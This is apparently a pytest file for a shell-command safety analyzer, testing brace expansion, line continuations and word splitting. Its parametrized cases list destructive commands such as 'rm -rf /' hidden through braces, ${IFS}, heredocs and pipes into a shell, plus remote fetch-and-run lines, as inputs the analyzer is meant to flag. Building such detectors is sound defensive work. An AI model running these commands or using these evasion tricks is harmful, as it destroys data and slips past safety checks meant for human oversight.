"""Words as bash makes them: line continuations, brace expansion, `$IFS` splitting."""

from __future__ import annotations

import pytest

from workbench.core.safety import analyze_command
from workbench.core.safety.parser import expand_braces, join_continuations


def test_brace_expansion() -> None:
    assert expand_braces("{rm,-rf,/}") == ["rm", "-rf", "/"]
    assert expand_braces("/{etc,usr}") == ["/etc", "/usr"]
    assert expand_braces("file{,.bak}") == ["file", "file.bak"]
    assert expand_braces("f{1..3}") == ["f1", "f2", "f3"]
    assert expand_braces("{a..c}{1,2}") == ["a1", "a2", "b1", "b2", "c1", "c2"]
    assert expand_braces("{x}") == ["{x}"]  # not an expansion
    assert expand_braces("'{a,b}'") is None  # quoted: not expanded here
    assert expand_braces("{1..100000}") is None  # too many words to judge one by one


def test_continuations_are_joined_outside_quotes_and_comments() -> None:
    assert join_continuations("r\\\nm -rf /")[0] == "rm -rf /"
    assert join_continuations("echo '\\\n'")[0] == "echo '\\\n'"
    assert join_continuations("# note \\\nrm -rf /")[0] == "# note \\\nrm -rf /"


@pytest.mark.parametrize(
    "command",
    [
        "{rm,-rf,/}",
        "{rm,-rf,~}",
        "rm -rf /{etc,usr}",
        "rm \\\n  -rf /",
        "r\\\nm -rf ~",
        "rm${IFS}-rf${IFS}/",
        "a='rm -rf'; $a /",  # an unquoted variable is split into words
        "echo rm -rf / | bash",  # known text piped to a shell is judged as shell code
        "printf 'rm -rf ~' | sh",
        "# harmless \\\nrm -rf /",
        "bash <<EOF\nrm -rf ~\nEOF",
        "ssh localhost <<'EOF'\nrm -rf /\nEOF",
    ],
)
def test_evasions_of_hardline_commands_stay_hardline(command: str) -> None:
    verdict = analyze_command(command)
    assert verdict.hardline, (command, verdict.reasons)


@pytest.mark.parametrize(
    "command",
    [
        "{rm,-rf,build}",
        "echo {a,b}; {rm,-f,x}",
        "ssh host <<'EOF'\nrm -rf /srv/app\nEOF",
        "ssh host bash -s <<'EOF'\nrm -rf /srv/app\nEOF",
        "docker exec -i web sh <<'EOF'\nrm -rf /data\nEOF",
        "kubectl exec -i pod -- bash <<'EOF'\nrm -rf /data\nEOF",
        "python - <<'EOF'\nimport shutil\nshutil.rmtree('build')\nEOF",
        "cat <<EOF\n$(rm -rf build)\nEOF",
        "poetry run python -c \"import shutil; shutil.rmtree('dist')\"",
        "npx -y rimraf node_modules",
        "yarn prisma migrate reset",  # yarn runs a package's program named first
        "bun x rimraf dist",
        "fd -e tmp -x rm",
        "curl http://x | ssh host sh",
        "echo 'DELETE FROM t' | docker exec -i db psql",
        "printf '%s' 'rm -rf /' | sh",  # a format filled in: not worked out, so it asks
        "cat script.sh | bash",
    ],
)
def test_evasions_ask(command: str) -> None:
    assert analyze_command(command).dangerous, command


@pytest.mark.parametrize(
    "command",
    [
        "mkdir -p src/{components,utils}",
        "echo {1..5}",
        "touch file{1..3}.txt",
        "ssh host <<'EOF'\nuptime\nEOF",
        "docker exec -i web sh <<'EOF'\nls /data\nEOF",
        "ls \\\n  -la",
        "grep -rn \\\n  TODO src",
        "poetry run pytest -q",
        "npx -y prettier --check .",
        "yarn add lodash",
        "yarn test",
        "fd -e py -x wc -l",
        "echo ls | bash",
        "echo 'print(1)' | python3",
    ],
)
def test_look_alikes_pass(command: str) -> None:
    verdict = analyze_command(command)
    assert not verdict.dangerous, (command, verdict.reasons)


def test_spans_after_a_continuation_point_into_the_original_text() -> None:
    command = "ls \\\n  -la && rm -rf build"
    ((start, end),) = analyze_command(command).spans
    assert command[start:end] == "rm -rf build"
